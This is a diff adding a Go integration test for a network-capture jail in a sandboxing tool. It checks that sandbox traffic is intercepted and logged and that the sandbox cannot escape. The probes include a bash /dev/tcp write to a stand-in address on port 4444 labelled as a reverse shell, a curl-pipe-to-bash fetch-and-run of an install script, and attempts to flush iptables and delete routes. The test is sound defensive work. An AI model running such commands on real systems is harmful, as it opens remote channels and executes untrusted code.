@@ -1,0 +1,285 @@
+package netcapture_test
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/sandboxctl/sandboxctl/internal/testenv"
+	"github.com/sandboxctl/sandboxctl/netcapture"
+	"github.com/sandboxctl/sandboxctl/orchestrator"
+	"github.com/sandboxctl/sandboxctl/trace"
+)
+
+// jailEvents follows the jail's stdout and keeps its events.
+type jailEvents struct {
+	mu     sync.Mutex
+	events []trace.Event
+	bad    []string
+}
+
+func (j *jailEvents) consume(r io.Reader) {
+	sc := bufio.NewScanner(r)
+	sc.Buffer(make([]byte, 64<<10), 8<<20)
+	for sc.Scan() {
+		var e trace.Event
+		err := json.Unmarshal(sc.Bytes(), &e)
+		j.mu.Lock()
+		if err != nil {
+			j.bad = append(j.bad, sc.Text())
+		} else {
+			j.events = append(j.events, e)
+		}
+		j.mu.Unlock()
+	}
+}
+
+func (j *jailEvents) snapshot() []trace.Event {
+	j.mu.Lock()
+	defer j.mu.Unlock()
+	return append([]trace.Event(nil), j.events...)
+}
+
+func (j *jailEvents) waitFor(t *testing.T, what string, pred func(trace.Event) bool) trace.Event {
+	t.Helper()
+	deadline := time.Now().Add(15 * time.Second)
+	for time.Now().Before(deadline) {
+		for _, e := range j.snapshot() {
+			if pred(e) {
+				return e
+			}
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	var b strings.Builder
+	for _, e := range j.snapshot() {
+		d, _ := json.Marshal(e.Data)
+		fmt.Fprintf(&b, "\n  %d %s %s", e.Seq, e.Type, d)
+	}
+	t.Fatalf("jail reported no %s; events:%s", what, b.String())
+	return trace.Event{}
+}
+
+// TestJailInDocker runs the real jail (sandboxctl __jail in a --network
+// none container with NET_ADMIN only) and a sandbox joining its namespace,
+// and checks what a skill's traffic turns into. Nothing leaves the machine:
+// the namespace has only loopback.
+func TestJailInDocker(t *testing.T) {
+	image := testenv.Image(t)
+	rt := testenv.RequireDocker(t)
+	bin := testenv.SandboxctlBinary(t)
+	id := testenv.TraceID(t)
+	testenv.CleanupLabel(t, id)
+
+	// A listener of our own on the host's loopback: nothing from the
+	// sandbox may reach it.
+	hostLn, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { hostLn.Close() })
+	var hostHits atomic.Int64
+	go func() {
+		for {
+			c, err := hostLn.Accept()
+			if err != nil {
+				return
+			}
+			hostHits.Add(1)
+			c.Close()
+		}
+	}()
+	hostPort := hostLn.Addr().(*net.TCPAddr).Port
+
+	caPEM, keyPEM, err := netcapture.NewCA("Northwind IT Root CA")
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := netcapture.DefaultConfig()
+	cfg.CACert, cfg.CAKey = caPEM, keyPEM
+	cfgJSON, err := json.Marshal(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	labels := map[string]string{orchestrator.LabelTrace: id}
+	jailSpec := orchestrator.Spec{
+		Name: id + "-jail", Role: orchestrator.RoleJail, Image: image, Labels: labels,
+		Cmd:  []string{orchestrator.AgentBin, "__jail", "--config", orchestrator.JailConfig},
+		User: "0:0", Hostname: "devbox-7", NetworkMode: "none",
+		CapDrop: []string{"ALL"}, CapAdd: []string{"NET_ADMIN"}, NoNewPrivileges: true,
+		Memory: 256 << 20, PIDs: 128,
+		Sysctls: map[string]string{"net.ipv6.conf.all.disable_ipv6": "1", "net.ipv6.conf.default.disable_ipv6": "1"},
+		Files: []orchestrator.File{
+			{Path: orchestrator.AgentBin, Mode: 0o755, HostPath: bin},
+			{Path: orchestrator.JailConfig, Mode: 0o600, Content: cfgJSON},
+		},
+	}
+	jail := create(t, rt, jailSpec)
+	if err := jail.Start(t.Context()); err != nil {
+		t.Fatalf("start jail: %v", err)
+	}
+	events := &jailEvents{}
+	pr, pw := io.Pipe()
+	var jailErr bytes.Buffer
+	logsCtx, stopLogs := context.WithCancel(context.Background())
+	logsDone := make(chan struct{})
+	go func() { defer close(logsDone); _ = jail.Logs(logsCtx, pw, &jailErr); pw.Close() }()
+	go events.consume(pr)
+	t.Cleanup(func() { stopLogs(); <-logsDone })
+
+	events.waitFor(t, "ready notice", func(e trace.Event) bool {
+		n, ok := e.Data.(*trace.Notice)
+		return ok && n.Message == netcapture.ReadyMessage
+	})
+
+	sbSpec := orchestrator.Spec{
+		Name: id + "-sandbox", Role: orchestrator.RoleSandbox, Image: image, Labels: labels,
+		Cmd: []string{"sleep", "infinity"}, User: "0:0", NetworkMode: "container:" + jail.ID(),
+		CapDrop: []string{"ALL"}, CapAdd: []string{"CHOWN", "DAC_OVERRIDE", "FOWNER", "KILL", "SETUID", "SETGID", "SYS_PTRACE"},
+		NoNewPrivileges: true, Memory: 512 << 20, PIDs: 256,
+		Files: []orchestrator.File{{Path: "/tmp/trace-ca.pem", Mode: 0o644, Content: caPEM}},
+	}
+	sb := create(t, rt, sbSpec)
+	if err := sb.Start(t.Context()); err != nil {
+		t.Fatalf("start sandbox: %v", err)
+	}
+	if out, code := execIn(t, sb, "", orchestrator.InstallCA, "/tmp/trace-ca.pem"); code != 0 {
+		t.Fatalf("install-ca: exit %d: %s", code, out)
+	}
+
+	const user = "1000:1000"
+	hasType := func(typ trace.Type, pred func(any) bool) func(trace.Event) bool {
+		return func(e trace.Event) bool { return e.Type == typ && pred(e.Data) }
+	}
+
+	t.Run("curl https without -k", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "https://api.example.org/")
+		if code != 0 || out != "200" {
+			t.Fatalf("curl = %q, exit %d", out, code)
+		}
+		events.waitFor(t, "intercepted hello for api.example.org", hasType(trace.TypeTLSHello, func(d any) bool {
+			h := d.(*trace.TLSHello)
+			return h.SNI == "api.example.org" && h.Intercepted && strings.HasPrefix(h.DstIP, "198.18.")
+		}))
+	})
+	t.Run("python urllib", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "python3", "-c", `import urllib.request; print(urllib.request.urlopen("https://pypi-mirror.example/simple/", timeout=10).status)`)
+		if code != 0 || strings.TrimSpace(out) != "200" {
+			t.Fatalf("python3 = %q, exit %d", out, code)
+		}
+	})
+	t.Run("node fetch", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "node", "-e", `fetch("https://registry.example/pkg").then(r => console.log(r.status)).catch(e => { console.log(String(e.cause || e)); process.exit(1) })`)
+		if code != 0 || strings.TrimSpace(out) != "200" {
+			t.Fatalf("node = %q, exit %d", out, code)
+		}
+	})
+	t.Run("getent hosts", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "getent", "hosts", "a.b.example")
+		if code != 0 || !strings.Contains(out, "a.b.example") {
+			t.Fatalf("getent = %q, exit %d", out, code)
+		}
+		events.waitFor(t, "dns query for a.b.example", hasType(trace.TypeDNSQuery, func(d any) bool {
+			return d.(*trace.DNSQuery).Name == "a.b.example."
+		}))
+	})
+	t.Run("bash dev tcp", func(t *testing.T) {
+		if out, code := execIn(t, sb, user, "bash", "-c", "echo reverse-shell-hello >/dev/tcp/198.51.100.23/4444"); code != 0 {
+			t.Fatalf("bash /dev/tcp: exit %d: %s", code, out)
+		}
+		events.waitFor(t, "connection to 198.51.100.23:4444", hasType(trace.TypeConnection, func(d any) bool {
+			c := d.(*trace.Connection)
+			return c.Proto == "tcp" && c.DstIP == "198.51.100.23" && c.DstPort == 4444 && string(c.FirstBytes) == "reverse-shell-hello\n"
+		}))
+	})
+	t.Run("udp", func(t *testing.T) {
+		execIn(t, sb, user, "bash", "-c", "echo udp-hello >/dev/udp/198.51.100.24/9999")
+		events.waitFor(t, "udp datagram to 198.51.100.24:9999", hasType(trace.TypeConnection, func(d any) bool {
+			c := d.(*trace.Connection)
+			return c.Proto == "udp" && c.DstIP == "198.51.100.24" && c.DstPort == 9999 && string(c.FirstBytes) == "udp-hello\n"
+		}))
+	})
+	t.Run("curl pipe bash runs the second stage", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "bash", "-c", "curl -fsSL https://get.tool.example/install.sh | bash")
+		if code != 0 || !strings.Contains(out, "Setup complete.") {
+			t.Fatalf("curl | bash = %q, exit %d", out, code)
+		}
+		marker, code := execIn(t, sb, user, "bash", "-c", "cat ~/"+cfg.Marker.Path)
+		if code != 0 || strings.TrimSpace(marker) != cfg.Marker.Token {
+			t.Errorf("marker = %q, exit %d; want %q", marker, code, cfg.Marker.Token)
+		}
+		events.waitFor(t, "second stage callback", hasType(trace.TypeHTTP, func(d any) bool {
+			return strings.Contains(d.(*trace.HTTPExchange).URL, "/.well-known/"+cfg.Marker.Token)
+		}))
+	})
+	t.Run("sandbox cannot undo the jail", func(t *testing.T) {
+		for _, argv := range [][]string{{"iptables", "-t", "nat", "-F"}, {"iptables-nft", "-t", "nat", "-F"}, {"ip", "route", "del", "default"}} {
+			if out, code := execIn(t, sb, "", argv...); code == 0 {
+				t.Errorf("%q as root in the sandbox succeeded: %s", argv, out)
+			}
+		}
+		// The redirection still holds.
+		if out, code := execIn(t, sb, user, "curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "https://after-flush.example/"); out != "200" {
+			t.Errorf("after the flush attempt curl = %q, exit %d", out, code)
+		}
+	})
+	t.Run("nothing reaches the host", func(t *testing.T) {
+		execIn(t, sb, user, "curl", "-sS", "--max-time", "5", fmt.Sprintf("http://127.0.0.1:%d/", hostPort))
+		execIn(t, sb, user, "bash", "-c", fmt.Sprintf("echo x >/dev/tcp/127.0.0.1/%d", hostPort))
+		time.Sleep(500 * time.Millisecond)
+		if n := hostHits.Load(); n != 0 {
+			t.Errorf("the host's loopback listener got %d connections from the sandbox", n)
+		}
+	})
+
+	// The stream has no gap and every line parsed.
+	evs := events.snapshot()
+	for i, e := range evs {
+		if e.Seq != int64(i+1) {
+			t.Fatalf("event %d has seq %d: a line was lost", i, e.Seq)
+		}
+	}
+	if len(events.bad) > 0 {
+		t.Errorf("unparsable lines on the jail's stdout: %q", events.bad)
+	}
+	if jailErr.Len() > 0 {
+		t.Logf("jail stderr: %s", jailErr.String())
+	}
+}
+
+func create(t *testing.T, rt orchestrator.Runtime, spec orchestrator.Spec) orchestrator.Sandbox {
+	t.Helper()
+	sb, err := rt.Create(t.Context(), spec)
+	if err != nil {
+		t.Fatalf("create %s: %v", spec.Name, err)
+	}
+	t.Cleanup(func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+		defer cancel()
+		if err := sb.Remove(ctx); err != nil {
+			t.Errorf("remove %s: %v", spec.Name, err)
+		}
+	})
+	return sb
+}
+
+func execIn(t *testing.T, sb orchestrator.Sandbox, user string, argv ...string) (string, int) {
+	t.Helper()
+	var out bytes.Buffer
+	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
+	defer cancel()
+	code, err := sb.Exec(ctx, orchestrator.ExecSpec{Argv: argv, User: user, Stdout: &out, Stderr: &out})
+	if err != nil {
+		t.Fatalf("exec %q: %v", argv, err)
+	}
+	return out.String(), code
+}
